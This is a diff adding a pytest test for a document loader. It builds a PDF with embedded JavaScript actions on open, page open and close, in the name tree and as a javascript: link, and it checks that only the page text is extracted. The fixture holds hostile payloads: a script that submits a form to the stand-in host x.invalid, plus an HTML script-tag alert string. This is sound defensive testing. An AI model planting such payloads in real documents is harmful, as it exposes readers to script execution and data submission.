@@ -281,3 +281,51 @@ def test_a_ten_thousand_page_pdf_is_refused_with_one_line(tmp_path: Path) -> Non
         load_document(tmp_path / "huge.pdf", "huge.pdf")
     documents, skipped = load_corpus(tmp_path)
     assert documents == [] and len(skipped) == 1 and "\n" not in skipped[0][1]
+
+
+def javascript_pdf(target: Path, pages: list[list[str]]) -> Path:
+    """A PDF that tries to run code every way a PDF can: JavaScript on open, on page open, in the
+    document's name tree, on close, and a javascript: link. Its pages hold `pages`' lines as text."""
+    def text(s: str) -> str:
+        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
+
+    action = "<< /Type /Action /S /JavaScript /JS (app.alert\\('pdf'\\); this.submitForm\\('http://x.invalid/'\\);) >>"
+    objects = [
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R /AA << /WC 3 0 R >> "
+        "/Names << /JavaScript << /Names [(boot) 3 0 R] >> >> >>",
+        f"<< /Type /Pages /Kids [{' '.join(f'{6 + 2 * i} 0 R' for i in range(len(pages)))}] /Count {len(pages)} >>",
+        action,
+        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        "<< /Type /Annot /Subtype /Link /Rect [72 60 300 80] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>",
+    ]
+    for i, lines in enumerate(pages):
+        stream = "BT /F1 12 Tf 14 TL 72 740 Td " + " ".join(f"({text(line)}) Tj T*" for line in lines) + " ET"
+        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> "
+                       f"/Contents {7 + 2 * i} 0 R /AA << /O 3 0 R >> /Annots [5 0 R] >>")
+        objects.append(f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream")
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = []
+    for n, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += f"{n} 0 obj\n{body}\nendobj\n".encode("latin-1")
+    xref = len(out)
+    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
+    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
+    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
+    target.write_bytes(bytes(out))
+    return target
+
+
+FERRY_PAGES = [
+    ["Ferry Report", "The ferry company runs two boats across the strait."],
+    ["The night ferry carried 640 passengers across the strait in June.",
+     "Its notice read <script>alert(1)</script> in large letters."],
+]
+
+
+def test_a_pdf_with_javascript_is_read_as_text_only(tmp_path: Path) -> None:
+    doc = load_document(javascript_pdf(tmp_path / "ferry.pdf", FERRY_PAGES), "ferry.pdf")
+    assert doc.kind == "pdf" and len(doc.page_starts) == 2
+    assert "640 passengers" in doc.text[doc.page_starts[1]:]
+    assert "<script>alert(1)</script>" in doc.text
+    assert "app.alert" not in doc.text and "submitForm" not in doc.text
